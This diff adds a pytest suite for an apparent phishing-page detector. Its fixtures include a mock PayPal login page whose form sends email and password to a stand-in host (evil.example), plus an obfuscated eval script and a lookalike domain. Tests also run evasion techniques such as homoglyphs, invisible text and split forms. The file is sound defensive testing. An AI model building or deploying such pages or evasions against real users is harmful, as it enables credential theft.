@@ -1,0 +1,304 @@
+"""Pages: the form, the guard before the parser, files and web archives, attacks."""
+
+from io import BytesIO
+
+import numpy as np
+import pyarrow as pa
+import pyarrow.parquet as pq
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from buckler.attacks import Scene, attacks_on
+from buckler.dataset.dataset import collect_events
+from buckler.errors import InputError
+from buckler.normalize import get_normalizer
+from buckler.normalize.html_guard import MAX_ATTRIBUTES, MAX_OPEN, bounded
+from buckler.readers.quarantine import Quarantine
+from buckler.readers.reader import Wanted, get_reader
+from buckler.synthesis.forms import ill_formed
+from buckler.synthesis.grammar import expand
+from buckler.synthesis.plan import read_plan
+from buckler.synthesis.safeguards import dressed, made_safe
+from buckler.tasks import get_task
+
+pytest.importorskip("selectolax")
+RNG = np.random.default_rng(0)
+TASK, PAGE = get_task("html"), get_normalizer("html-v1")
+NAMES = ("page", "title", "forms", "marks", "hosts", "scripts", "hidden", "text")
+FAKE = """<html><head><title>Sign in - PayPal</title>
+<link rel=icon href="https://www.paypalobjects.com/f.ico"><script>eval(atob("x"))</script></head>
+<body><div style="display:none">secret words</div>
+<form method=POST action="https://evil.example/p.php"><input name=email>
+<input type=password name=pw><button>Log In</button></form>
+<img src="https://www.paypalobjects.com/l.png"><a href="#">Help</a> v\u0435rify your account
+</body></html>"""
+
+
+def fields(raw: str | bytes, max_bytes: int = 8192) -> dict[str, str]:
+    form = PAGE.normalize(raw, max_bytes).decode("utf-8", "replace").split("\x1f")
+    return dict(zip(NAMES, form, strict=True))
+
+
+def test_a_fake_login_page():
+    form = fields(FAKE + "\x1fhttp://paypa1.secure.example/x")
+    assert form["page"] == "paypa1.secure.example/x"
+    assert form["title"] == "sign in - paypal"
+    assert form["forms"] == "form-post to-other log in text-email password-password"
+    assert form["hosts"] == "paypalobjects.com"
+    assert form["scripts"] == "eval atob"
+    assert form["hidden"] == "secret words"
+    assert form["text"] == "log in help verify your account"
+    marks = set(form["marks"].split())
+    assert {"form-other", "asks-password", "resources-mostly-other", "icons-mostly-other"} <= marks
+    assert {"brand-of-other-site", "brand-in-title-not-site", "link-nowhere", "lookalike"} <= marks
+    assert "no-address" not in marks
+
+
+def test_the_same_page_on_its_own_site():
+    page = FAKE.replace("https://evil.example/p.php", "/signin").replace("paypalobjects", "paypal")
+    marks = set(fields(page + "\x1fhttps://www.paypal.com/signin")["marks"].split())
+    assert "form-own" in marks
+    assert not marks & {"form-other", "brand-of-other-site", "brand-in-title-not-site"}
+
+
+def test_saved_pages_tell_their_address():
+    page = "<!-- saved from url=(0022)http://a.example/x/ -->\n<p>x</p>"
+    assert fields(page)["page"] == "a.example/x/"
+    assert "no-address" in fields("<p>x</p>")["marks"]
+
+
+@pytest.mark.parametrize(
+    ("raw", "text"),
+    [
+        ("<p>caf\u00e9".encode(), "caf\u00e9"),
+        ("<meta charset=iso-8859-1><p>caf\u00e9".encode("latin-1"), "caf\u00e9"),
+        ("<p>caf\u00e9".encode("latin-1"), "caf\u00e9"),
+        ("<p>caf\u00e9".encode("utf-16"), "caf\u00e9"),
+        (b"<meta charset=undefined><p>x", "x"),
+        ("<p>a&amp;b&#8203;c", "a&bc"),
+        ("<p title='>'>seen</p>", "seen"),
+        ("no markup", "no markup"),
+        ("", ""),
+    ],
+)
+def test_charsets_and_entities(raw, text):
+    assert fields(raw)["text"] == text
+
+
+_MARKUP = (
+    *("<div>", "</div>", "<form>", "</form>", "<input", "<b>", "<p>", "<table>", "<td>", "</a>"),
+    *("<a href=x>", "<script>", "</script>", "<style>", "<!--", "-->", "<title>", "<svg>", "&amp;"),
+    *("<select>", "<option>", "text", "<", ">", '"', "'", "="),
+)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(st.sampled_from(_MARKUP) | st.text(max_size=8), max_size=60).map(" ".join))
+def test_any_page_has_eight_fields(source):
+    assert PAGE.normalize(source, 1 << 20).count(b"\x1f") == 7
+    assert source.startswith(bounded(source))
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.binary(max_size=2000))
+def test_any_bytes_have_eight_fields(data):
+    assert PAGE.normalize(data, 1 << 20).count(b"\x1f") == 7
+
+
+def test_the_guard_cuts_what_stops_parsers_and_nothing_else():
+    assert bounded("<div>" * 100_000) == "<div>" * MAX_OPEN
+    many = "<a " + "".join(f"x{i}=1 " for i in range(MAX_ATTRIBUTES + 1)) + ">"
+    assert bounded("<p>a</p>" + many + "b") == "<p>a</p>"
+    ordinary = "<ul>" + "<li><a href='x>y'>z</a>" * 5000 + "</ul>" + "<div><p>x</div>" * 5000
+    assert bounded(ordinary) == ordinary
+    assert bounded("<div></span>" * 1000) == "<div></span>" * MAX_OPEN
+
+
+@pytest.mark.parametrize(
+    "piece",
+    ["<div>", "<div></x>", "<b><p>", "<a href='", "<!--", "<script>", "<", "<a ", "<table><tr><td>",
+     "<select><option>", "<template>", "<svg><g>", "&amp", "<title>"],
+)  # fmt: skip
+def test_a_mebibyte_of_hostile_markup_comes_to_an_end(piece):
+    fields(piece * ((1 << 20) // len(piece)))
+
+
+def test_folders_of_pages_are_labeled_by_their_name(tmp_path):
+    for folder in ("benign", "phishing"):
+        (tmp_path / folder).mkdir()
+        (tmp_path / folder / "a.html").write_text(f"<p>{folder}</p>")
+    (tmp_path / "benign" / "b.htm").write_text("")
+    quarantine = Quarantine()
+    events = collect_events([tmp_path], TASK, quarantine=quarantine)
+    assert events.column("label").tolist() == ["benign", "phishing"]
+    assert dict(quarantine.reasons) == {"empty page": 1}
+
+
+def archive(*pages: tuple[str, bytes, str], gzip: bool = True) -> bytes:
+    from warcio.statusandheaders import StatusAndHeaders
+    from warcio.warcwriter import WARCWriter
+
+    out = BytesIO()
+    writer = WARCWriter(out, gzip=gzip)
+    writer.write_record(writer.create_warcinfo_record("x.warc", {"software": "test"}))
+    for address, body, kind in pages:
+        headers = StatusAndHeaders("200 OK", [("Content-Type", kind)], protocol="HTTP/1.1")
+        writer.write_record(
+            writer.create_warc_record(
+                address, "response", payload=BytesIO(body), http_headers=headers
+            )
+        )
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("gzip", [True, False])
+def test_web_archives(tmp_path, gzip):
+    path = tmp_path / ("a.warc.gz" if gzip else "a.warc")
+    pages = [
+        ("http://a.example/x", b"<p>one\x1f</p>", "text/html; charset=utf-8"),
+        ("http://a.example/y.png", b"png", "image/png"),
+        ("http://b.example.co.uk/", b"<p>two</p>", "text/html"),
+        ("http://c.example/", b" ", "text/html"),
+    ]
+    path.write_bytes(archive(*pages, gzip=gzip))
+    quarantine = Quarantine()
+    events = collect_events([path], TASK, quarantine=quarantine)
+    assert [t.split(b"\x1f")[0] for t in (events.texts[0], events.texts[1])] == [
+        b"a.example/x",
+        b"b.example.co.uk/",
+    ]
+    assert events.column("group").tolist() == ["a.example", "example.co.uk"]
+    assert all(seconds > 1_600_000_000 for seconds in events.column("ts"))
+    assert quarantine.passed_over == {"other records": 2}
+    assert dict(quarantine.reasons) == {"empty page": 1}
+
+
+@settings(
+    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(st.lists(st.tuples(st.integers(0, 2000), st.integers(0, 255)), max_size=10), st.booleans())
+def test_damaged_web_archives_are_an_error_or_fewer_pages(tmp_path, changes, gzip):
+    data = bytearray(archive(*[("http://a.example/", b"<p>x</p>", "text/html")] * 4, gzip=gzip))
+    for at, value in changes:
+        data[at % len(data)] = value
+    path = tmp_path / ("b.warc.gz" if gzip else "b.warc")
+    path.write_bytes(bytes(data))
+    try:
+        events = collect_events([path], TASK)
+    except InputError as error:
+        assert str(path) in str(error)
+    else:
+        assert len(events) <= 4
+
+
+def test_a_column_with_the_address_is_context(tmp_path):
+    (tmp_path / "a.jsonl").write_text('{"html": "<p>x</p>", "url": "http://a.example/b"}')
+    events = collect_events([tmp_path / "a.jsonl"], TASK)
+    assert events.texts[0].startswith(b"a.example/b\x1f")
+
+
+@pytest.mark.parametrize("attack", attacks_on("html"), ids=lambda a: a.name)
+def test_attacks_on_pages(attack):
+    text = FAKE + "\x1fhttp://a.example/"
+    made = attack(text, Scene(np.random.default_rng(0), ["<p>An ordinary page of news.</p>"]))
+    assert made != text or attack.name == "text-as-images"
+    assert made.endswith("\x1fhttp://a.example/")
+    form = fields(made)
+    assert form["page"] == "a.example/"
+    if attack.name == "split-form":
+        assert "password-without-form" in form["marks"]
+    if attack.name in ("homoglyphs", "invisible"):
+        assert form["text"] == fields(text)["text"]
+
+
+def test_scripts_survive_disguises_of_the_text():
+    attack = next(a for a in attacks_on("html") if a.name == "homoglyphs")
+    page = "<script>var account = 'password';</script><p>account</p>" * 20
+    made = attack(page, Scene(np.random.default_rng(1)))
+    assert made.count("var account = 'password';") == 20
+
+
+# --- the HTML of mails ----------------------------------------------------------------------------
+
+HTML_MAIL = (
+    b"From: Bank <a@bank.example>\nSubject: x\nDate: Mon, 02 Feb 2026 10:00:00 +0000\n"
+    b'MIME-Version: 1.0\nContent-Type: multipart/alternative; boundary="b"\n\n'
+    b"--b\nContent-Type: text/plain\n\nplain words\n"
+    b'--b\nContent-Type: text/html; charset="latin-1"\n\n'
+    b'<html><form action="http://e.example/p"><input type="password"></form>v\xe9rify\x1f</html>\n'
+    b"--b--\n"
+)
+
+
+def test_mails_give_their_html_and_those_without_are_passed_over(tmp_path):
+    plain = b"From: a@b.example\nSubject: y\n\nno html here\n"
+    (tmp_path / "phishing").mkdir()
+    (tmp_path / "phishing" / "1.eml").write_bytes(HTML_MAIL)
+    (tmp_path / "phishing" / "2.eml").write_bytes(plain)
+    quarantine = Quarantine()
+    events = collect_events([tmp_path], TASK, format_name="mail-html", quarantine=quarantine)
+    assert quarantine.passed_over.total() == 1
+    assert len(events) == 1
+    assert events.labels.tolist() == [TASK.class_names.index("phishing")]
+    assert "vérify" in events.texts[0].decode()
+    assert "plain words" not in events.texts[0].decode()
+    assert events.table["ts"].to_pylist() == [1770026400]
+
+
+def test_tables_of_mails_keep_their_columns(tmp_path):
+    raw = [HTML_MAIL, b"From: x@y.example\n\nnone", HTML_MAIL.replace(b"password", b"text")]
+    table = pa.table({"raw": raw, "label": ["phishing", "ham", "spam"], "group": ["a", "b", "c"]})
+    pq.write_table(table, tmp_path / "mails.parquet")
+    events = collect_events([tmp_path / "mails.parquet"], TASK, format_name="mail-html")
+    assert events.table["label"].to_pylist() == ["phishing", "benign"]
+    assert events.table["group"].to_pylist() == ["a", "c"]
+
+
+@settings(
+    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(st.lists(st.tuples(st.integers(0, len(HTML_MAIL)), st.binary(max_size=6)), max_size=6))
+def test_damaged_mails_give_a_page_or_none(tmp_path, changes):
+    raw = bytearray(HTML_MAIL)
+    for at, data in changes:
+        raw[at : at + len(data)] = data
+    (tmp_path / "m.eml").write_bytes(bytes(raw))
+    quarantine = Quarantine()
+    chunks = get_reader(tmp_path / "m.eml", "mail-html").chunks(
+        tmp_path / "m.eml", Wanted(TASK.text_columns), quarantine
+    )
+    rows = sum(len(chunk.text) for chunk in chunks)
+    assert rows + quarantine.passed_over.total() + quarantine.count == 1
+
+
+# --- synthetic examples ------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "label", "wrong"),
+    [
+        ("just words, no markup at all", "benign", "no page"),
+        ("<html><body></body></html>", "benign", "a page that shows nothing"),
+        ("<html><body>sign in here</body></html>", "phishing", "asks for nothing"),
+        ("<html><body>sign in here</body></html>", "benign", None),
+        ("<html><body>sign in <input name=a></body></html>", "phishing", None),
+    ],
+)
+def test_the_form_of_synthetic_examples_of_pages(text, label, wrong):
+    cell = next(c for c in read_plan(TASK).cells if c.label == label)
+    found = ill_formed(text, cell, TASK)
+    assert found is None if wrong is None else wrong in found
+
+
+def test_fakes_of_the_plan_are_told_by_the_form_and_own_pages_are_not():
+    plan = read_plan(TASK)
+    made = {"phishing": [], "benign": []}
+    for cell in plan.cells[::4]:
+        page = dressed(made_safe(expand(cell.forms[0], plan.slots | cell.slots, RNG)))
+        if "saved from" in page and "brand" in cell.attributes:
+            marks = fields(page)["marks"]
+            made[cell.label].append("brand-of-other-site" in marks or "form-other" in marks)
+    assert len(made["phishing"]) > 20 < len(made["benign"])
+    assert np.mean(made["benign"]) < 0.15
+    assert np.mean(made["phishing"]) > 0.5
